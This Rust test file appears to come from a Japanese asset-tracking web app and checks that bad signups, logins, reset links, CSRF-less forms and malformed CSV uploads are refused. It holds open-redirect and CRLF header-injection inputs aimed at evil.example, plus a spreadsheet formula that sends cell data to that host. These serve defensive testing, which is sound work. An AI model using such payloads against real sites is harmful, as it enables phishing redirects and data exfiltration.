//! Every kind of bad input gets a clear message in the visitor's language, a 4xx status, and
//! changes nothing.

use crate::support;

use platform::db::col;
use support::{Backend, Browser, TestApp, email, staff_browser, today};

async fn count(app: &TestApp, table: &str) -> i64 {
    let mut tx = app.state.db.read().await.unwrap();
    let row = sqlx::query(&format!("SELECT COUNT(*) AS n FROM {table}"))
        .fetch_one(&mut *tx)
        .await
        .unwrap();
    col(&row, "n").unwrap()
}

fn signup_fields<'a>(
    email: &'a str,
    kanji: &'a str,
    kana: &'a str,
    birth: &'a str,
    password: &'a str,
) -> Vec<(&'a str, &'a str)> {
    vec![
        ("name_kanji", kanji),
        ("name_kana", kana),
        ("email", email),
        ("birth_date", birth),
        ("password", password),
        ("password_confirm", password),
    ]
}

async fn signup_refuses_bad_fields(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let b = app.browser();
    let long = "山".repeat(51);
    let cases: Vec<(Vec<(&str, &str)>, &str)> = vec![
        (
            signup_fields(
                "not-an-address",
                "山田 太郎",
                "ヤマダ",
                "1980-01-01",
                support::PASSWORD,
            ),
            "メールアドレスの形式が正しくありません",
        ),
        (
            signup_fields(
                "a@example.jp",
                &long,
                "ヤマダ",
                "1980-01-01",
                support::PASSWORD,
            ),
            "50文字以内で入力してください",
        ),
        (
            signup_fields(
                "a@example.jp",
                "山田\u{0007}太郎",
                "ヤマダ",
                "1980-01-01",
                support::PASSWORD,
            ),
            "使用できない文字が含まれています",
        ),
        (
            signup_fields(
                "a@example.jp",
                "山田 太郎",
                "Yamada",
                "1980-01-01",
                support::PASSWORD,
            ),
            "全角カタカナで入力してください",
        ),
        (
            signup_fields(
                "a@example.jp",
                "山田 太郎",
                "ヤマダ",
                "2999-01-01",
                support::PASSWORD,
            ),
            "未来の日付は入力できません",
        ),
        (
            signup_fields(
                "a@example.jp",
                "山田 太郎",
                "ヤマダ",
                "1980-02-30",
                support::PASSWORD,
            ),
            "日付を「2026-04-01」の形式で入力してください",
        ),
        (
            signup_fields("a@example.jp", "山田 太郎", "ヤマダ", "1980-01-01", "short"),
            "10文字以上で入力してください",
        ),
        (
            signup_fields(
                "a@example.jp",
                "山田 太郎",
                "ヤマダ",
                "1980-01-01",
                "password1234",
            ),
            "推測されやすい",
        ),
        (signup_fields("", "", "", "", ""), "入力してください"),
    ];
    for (fields, message) in cases {
        let page = b.submit("/signup", "/signup", &fields).await;
        assert_eq!(page.status, 422, "{message}");
        assert!(
            page.body.contains(message),
            "expected «{message}» in {}",
            page.body
        );
        assert!(page.body.contains("aria-invalid=\"true\""));
        assert!(
            !page.body.contains(support::PASSWORD),
            "passwords are never echoed back"
        );
    }
    let mismatch = b
        .submit(
            "/signup",
            "/signup",
            &[
                ("name_kanji", "山田"),
                ("name_kana", "ヤマダ"),
                ("email", "a@example.jp"),
                ("birth_date", "1980-01-01"),
                ("password", support::PASSWORD),
                ("password_confirm", "other-words-entirely-here"),
            ],
        )
        .await;
    assert!(mismatch.body.contains("確認用のパスワードが一致しません"));
    let english = Browser::new(&app.base);
    english.get("/lang/en").await;
    let page = english
        .submit(
            "/signup",
            "/signup",
            &signup_fields("nope", "A", "ア", "1980-01-01", support::PASSWORD),
        )
        .await;
    assert!(
        page.body
            .contains("Please enter an e-mail address such as taro@example.jp.")
    );
    assert_eq!(count(&app, "customers").await, 0, "nothing was stored");
    app.stop().await;
}

async fn duplicate_signup_reveals_nothing_and_changes_nothing(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let address = email("dup");
    app.register(&address).await;
    let intruder = app.browser();
    let page = intruder
        .sign_up(&address.to_uppercase(), "another-long-passphrase-99")
        .await;
    assert_eq!(
        (page.status, page.location.as_deref()),
        (303, Some("/signup/sent")),
        "same answer as a new sign-up"
    );
    assert_eq!(count(&app, "customers").await, 1);
    let mails = testkit::mail::wait_for(&app.mail_dir(), &address, 2).await;
    assert!(
        mails
            .iter()
            .any(|m| m.subject.contains("ご登録済みのメールアドレスです"))
    );
    assert_eq!(
        intruder
            .login(&address, "another-long-passphrase-99")
            .await
            .status,
        401,
        "the password was not replaced"
    );
    assert_eq!(
        intruder.login(&address, support::PASSWORD).await.status,
        303
    );
    app.stop().await;
}

async fn wrong_passwords_and_unknown_addresses_get_the_same_answer(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let address = email("login");
    app.register(&address).await;
    let b = app.browser();
    let wrong = b.login(&address, "wrong-password-entirely").await;
    let unknown = b
        .login("nobody@example.jp", "wrong-password-entirely")
        .await;
    let garbage = b.login("not an address", "").await;
    for page in [&wrong, &unknown, &garbage] {
        assert_eq!(page.status, 401);
        assert!(
            page.body
                .contains("メールアドレスまたはパスワードが正しくありません")
        );
    }
    assert_eq!(
        count(&app, "sessions").await,
        1,
        "only the registration's session exists"
    );
    app.stop().await;
}

async fn expired_and_reused_links_are_refused(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let address = email("links");
    let b = app.browser();
    b.sign_up(&address, support::PASSWORD).await;
    let link = app.latest_link(&address, "/verify/").await;
    {
        let mut tx = app.state.db.write().await.unwrap();
        sqlx::query("UPDATE one_time_tokens SET expires_at = 0")
            .execute(&mut *tx)
            .await
            .unwrap();
        tx.commit().await.unwrap();
    }
    let expired = b.submit(&link, &link, &[]).await;
    assert_eq!(expired.status, 410);
    assert!(
        expired
            .body
            .contains("リンクの有効期限が切れているか、すでに使用されています")
    );
    assert_eq!(
        b.login(&address, support::PASSWORD).await.status,
        403,
        "still unverified; a new link is mailed"
    );
    testkit::mail::wait_for(&app.mail_dir(), &address, 2).await;
    let fresh = app.latest_link(&address, "/verify/").await;
    assert_ne!(fresh, link);
    assert_eq!(
        b.submit(&fresh, &fresh, &[]).await.status,
        422,
        "a link mailed again is not the sign-up's: the password is asked"
    );
    let password = [("password", support::PASSWORD)];
    assert_eq!(b.submit(&fresh, &fresh, &password).await.status, 200);
    assert_eq!(
        b.submit(&fresh, &fresh, &password).await.status,
        410,
        "a link works once"
    );
    let forged = "/verify/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
    assert_eq!(b.submit(forged, forged, &[]).await.status, 410);
    assert_eq!(
        b.submit("/verify/short", "/verify/short", &[]).await.status,
        410
    );

    b.submit(
        "/password/forgot",
        "/password/forgot",
        &[("email", &address)],
    )
    .await;
    let reset = app.latest_link(&address, "/password/reset/").await;
    let weak = b
        .submit(
            &reset,
            &reset,
            &[("password", "password1"), ("password_confirm", "password1")],
        )
        .await;
    assert_eq!(
        weak.status, 422,
        "a refused password does not use up the link"
    );
    let good = "silver-kettle-morning-31";
    assert_eq!(
        b.submit(
            &reset,
            &reset,
            &[("password", good), ("password_confirm", good)]
        )
        .await
        .status,
        303
    );
    let reused = b.get(&reset).await;
    assert_eq!(reused.status, 410);
    let unknown = b
        .submit(
            "/password/forgot",
            "/password/forgot",
            &[("email", "nobody@example.jp")],
        )
        .await;
    assert_eq!(unknown.status, 200, "unknown addresses get the same answer");
    let bad = b
        .submit(
            "/password/forgot",
            "/password/forgot",
            &[("email", "nobody")],
        )
        .await;
    assert_eq!(bad.status, 422);
    app.stop().await;
}

async fn absurd_amounts_and_bad_assets_change_nothing(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let b = app.register(&email("amounts")).await;
    let cases = [
        (
            "deposits",
            "預金",
            "-1",
            today(),
            "マイナスの金額は入力できません",
        ),
        (
            "deposits",
            "預金",
            "100000000000001",
            today(),
            "100兆円以下で入力してください",
        ),
        (
            "deposits",
            "預金",
            "1.5",
            today(),
            "円単位の数字で入力してください",
        ),
        (
            "deposits",
            "預金",
            "abc",
            today(),
            "円単位の数字で入力してください",
        ),
        ("gold", "金", "100", today(), "選択肢の中からお選びください"),
        ("deposits", "", "100", today(), "入力してください"),
        (
            "deposits",
            "預金",
            "100",
            "2999-12-31".to_owned(),
            "未来の日付は入力できません",
        ),
    ];
    for (category, name, amount, date, message) in cases {
        let page = b.add_asset(category, name, amount, &date).await;
        assert_eq!(page.status, 422, "{message}");
        assert!(page.body.contains(message), "expected «{message}»");
    }
    assert_eq!(count(&app, "assets").await, 0);
    assert_eq!(count(&app, "asset_history").await, 0);
    app.stop().await;
}

async fn malformed_csv_imports_nothing(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let b = app.register(&email("csv")).await;
    let upload = |bytes: Vec<u8>| b.import_csv(bytes);
    let file = "区分,名称,金融機関,金額,評価日,メモ\n預金,普通預金,,100,2026-01-01,\n預金,定期,,-5,2026-01-01,\n株式\n";
    let (status, body) = upload(file.as_bytes().to_vec()).await;
    assert_eq!(status, 422);
    assert!(
        body.contains("3行目: 金額: マイナスの金額は入力できません"),
        "{body}"
    );
    assert!(body.contains("4行目: 列の数が1個です"), "{body}");
    let (status, body) = upload(vec![0x82, 0xa0, 0xff, 0xfe, 0x81]).await;
    assert_eq!(status, 422);
    assert!(body.contains("文字コードを読み取れませんでした"));
    let (status, _) = upload(vec![b'a'; 3 * 1024 * 1024]).await;
    assert_eq!(
        status, 413,
        "uploads beyond the route's limit are refused before parsing"
    );
    assert_eq!(count(&app, "assets").await, 0);
    app.stop().await;
}

async fn forms_without_a_valid_token_are_refused(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let address = email("csrf");
    let b = app.register(&address).await;
    let missing = b
        .post_with_token(
            "/assets/new",
            "",
            &[
                ("category", "deposits"),
                ("name", "x"),
                ("amount", "1"),
                ("valuation_date", &today()),
            ],
        )
        .await;
    assert_eq!(missing.status, 403);
    assert!(missing.body.contains("送信を受け付けられませんでした"));
    let other = app.browser();
    let foreign_token = other.token("/login").await;
    let forged = b
        .post_with_token(
            "/assets/new",
            &foreign_token,
            &[
                ("category", "deposits"),
                ("name", "x"),
                ("amount", "1"),
                ("valuation_date", &today()),
            ],
        )
        .await;
    assert_eq!(
        forged.status, 403,
        "a token from another browser does not work"
    );
    let token = b.token("/assets/new").await;
    let cross_site = b
        .client
        .post(format!("{}/assets/new", b.base))
        .header("sec-fetch-site", "cross-site")
        .form(&[
            ("csrf", token.as_str()),
            ("category", "deposits"),
            ("name", "x"),
            ("amount", "1"),
            ("valuation_date", &today()),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(cross_site.status(), 403);
    let logout = b.post_with_token("/logout", "bogus", &[]).await;
    assert_eq!(logout.status, 403);
    let signup = app
        .browser()
        .post_with_token("/signup", "", &support_signup(&email("x")))
        .await;
    assert_eq!(signup.status, 403);
    let wrong_type = b
        .client
        .post(format!("{}/assets/new", b.base))
        .body("{}")
        .header("content-type", "application/json")
        .send()
        .await
        .unwrap();
    assert_eq!(wrong_type.status(), 400);
    assert_eq!(count(&app, "assets").await, 0);
    assert_eq!(count(&app, "customers").await, 1);
    assert_eq!(b.get("/dashboard").await.status, 200, "still logged in");
    app.stop().await;
}

fn support_signup(email: &str) -> Vec<(&'static str, &str)> {
    vec![
        ("name_kanji", "山田"),
        ("name_kana", "ヤマダ"),
        ("email", email),
        ("birth_date", "1980-01-01"),
        ("password", support::PASSWORD),
        ("password_confirm", support::PASSWORD),
    ]
}

async fn unknown_pages_and_oversized_forms(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let b = app.register(&email("misc")).await;
    let missing = b.get("/no/such/page").await;
    assert_eq!(missing.status, 404);
    assert!(missing.body.contains("ページが見つかりません"));
    assert!(
        missing.headers["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/html"),
        "error pages are pages"
    );
    assert_eq!(b.get("/assets/not-a-uuid/edit").await.status, 404);
    let token = b.token("/assets/new").await;
    let huge = "x".repeat(100 * 1024);
    let big = b
        .post_with_token("/assets/new", &token, &[("note", &huge)])
        .await;
    assert_eq!(big.status, 413);
    assert!(big.body.contains("大きすぎます"), "{}", big.body);
    app.stop().await;
}

async fn language_switch_returns_only_to_pages_of_this_site(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let b = app.browser();
    for (next, expected) in [
        ("/%09/evil.example", "/"),
        ("/%0d%0a/evil.example", "/"),
        ("/dashboard%0d%0aSet-Cookie:%20lang=ja", "/"),
        ("%0d%0a", "/"),
        ("/%0a", "/"),
        ("//evil.example", "/"),
        ("/%5Cevil.example", "/"),
        ("https://evil.example/", "/"),
        ("/%EF%BC%8Fevil.example", "/"),
        ("/.//evil.example", "/"),
        ("%2Fassets%3Fx%3D1%23y", "/assets?x=1#y"),
    ] {
        let page = b.get(&format!("/lang/en?next={next}")).await;
        assert!(
            (300..400).contains(&page.status),
            "{next}: a redirect, never an error: {}",
            page.status
        );
        assert_eq!(page.location.as_deref(), Some(expected), "{next}");
    }
    app.stop().await;
}

async fn client_ids_typed_at_the_token_endpoint_never_reach_the_audit_export(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")";
    let long = "A".repeat(4096);
    let http = reqwest::Client::new();
    for client_id in [formula, long.as_str()] {
        let response = http
            .post(format!("{}/oauth2/token", app.base))
            .form(&[
                ("grant_type", "client_credentials"),
                ("client_id", client_id),
                ("client_secret", "guess"),
            ])
            .send()
            .await
            .unwrap();
        assert!(response.status().is_client_error(), "{}", response.status());
    }
    let actors: Vec<String> = {
        let mut tx = app.state.db.read().await.unwrap();
        sqlx::query(
            "SELECT actor FROM audit_log WHERE action LIKE 'oidc.token_refused.%' ORDER BY seq",
        )
        .fetch_all(&mut *tx)
        .await
        .unwrap()
        .iter()
        .map(|r| col::<String>(r, "actor").unwrap())
        .collect()
    };
    assert_eq!(actors.len(), 2, "both refusals are audited: {actors:?}");
    for actor in &actors {
        let digest = actor
            .strip_prefix("client:unverified:")
            .unwrap_or_else(|| panic!("recorded by digest: {actor}"));
        assert!(
            digest.len() == 12 && digest.bytes().all(|b| b.is_ascii_hexdigit()),
            "{actor}"
        );
    }
    assert_ne!(actors[0], actors[1], "different values, different digests");

    let (admin, _) = staff_browser(&app, "ops.admin", "admin").await;
    let (status, _, bytes) = admin
        .get_bytes("/ops/audit/export?action=oidc.token_refused.*")
        .await;
    assert_eq!(status, 200);
    let text = String::from_utf8(bytes).unwrap();
    let rows: Vec<&str> = text.lines().skip(1).filter(|l| !l.is_empty()).collect();
    assert_eq!(rows.len(), 2, "{text}");
    for row in &rows {
        for cell in row.split(',') {
            assert!(
                !cell
                    .trim_start_matches(['"', ' '])
                    .starts_with(['=', '+', '-', '@', '\u{FF1D}']),
                "no cell a spreadsheet would run: {cell}"
            );
            assert!(cell.len() < 128, "no oversized value: {} bytes", cell.len());
        }
    }
    assert!(!text.contains("HYPERLINK") && !text.contains(&long[..128]));
    app.stop().await;
}

on_both_backends!(
    language_switch_returns_only_to_pages_of_this_site,
    client_ids_typed_at_the_token_endpoint_never_reach_the_audit_export,
    signup_refuses_bad_fields,
    duplicate_signup_reveals_nothing_and_changes_nothing,
    wrong_passwords_and_unknown_addresses_get_the_same_answer,
    expired_and_reused_links_are_refused,
    absurd_amounts_and_bad_assets_change_nothing,
    malformed_csv_imports_nothing,
    forms_without_a_valid_token_are_refused,
    unknown_pages_and_oversized_forms,
);
